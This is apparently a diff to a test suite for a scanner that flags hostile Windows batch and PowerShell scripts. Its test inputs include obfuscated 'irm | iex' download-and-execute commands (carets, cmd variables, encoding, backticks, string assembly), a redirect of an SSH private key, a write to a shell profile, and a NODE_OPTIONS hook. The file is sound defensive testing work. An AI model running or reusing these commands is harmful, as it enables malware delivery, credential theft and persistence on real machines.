@@ -27,6 +27,7 @@ describe('a download that is run by a program of Windows blocks', () => {
     ['in a batch file', 'a.bat', `@echo off\r\npowershell -NoP -c "irm ${url} | iex"\r\n`],
     ['with carets', 'a.bat', `po^wer^shell -c "irm ${url} | iex"`],
     ['through a variable of cmd', 'a.cmd', `set p=powershell\n%p% -c "irm ${url} | iex"`],
+    ['as a whole line in one', 'a.cmd', `set l=powershell -c "irm ${url} ^| iex"\n%l%`],
     ['encoded', 'a.bat', `powershell -enc ${utf16(`irm ${url} | iex`)}`],
     ['with backticks', 'a.ps1', `I\`E\`X (i\`wR ${url})`],
     ['from pieces', 'a.ps1', `& ('i' + 'ex') (& ('{1}{0}' -f 'rm','i') ${url})`],
@@ -93,6 +94,29 @@ describe('what is not read is held', () => {
     ['a block that calls itself', 'a.ps1', '$a = { & $a; & $a }\n& $a'],
   ])('%s', async (_, path, text) => {
     expect((await scan(path, text)).verdict).not.toBe('pass');
+  });
+});
+
+describe('what cmd redirects, and what steers other programs, is found', () => {
+  it.each([
+    ['input', 'a.bat', 'tool < %USERPROFILE%\\.ssh\\id_rsa', 'files/credential-path'],
+    ['errors', 'a.bat', 'tool > a.txt 2> %USERPROFILE%\\.bashrc', 'persistence/shell-profile'],
+    ['a hook', 'a.ps1', '$env:NODE_OPTIONS = "--require ./a.js"', 'env/steering-variable'],
+    ['no hook', 'a.ps1', '$env:COLOUR = "red"', undefined],
+  ])('%s', async (_, path, text, rule) => {
+    const { findings } = await scan(path, text);
+    const found = findings.filter(({ severity }) => severity !== 'info' && severity !== 'low');
+    expect(found.map((one) => one.rule)).toEqual(
+      rule === undefined ? ['obfuscation/unanalysed'] : expect.arrayContaining([rule]),
+    );
+  });
+});
+
+it('counts only what cmd keeps as a file', async () => {
+  const { capabilities } = await scan('a.bat', 'tool > NUL 2>nul\ntool > C:\\b.txt 2>&1');
+  expect(capabilities.observed).toMatchObject({
+    mount: [{ path: '/c/b.txt', mode: 'rw' }],
+    exec: [{ program: 'tool' }],
   });
 });
 
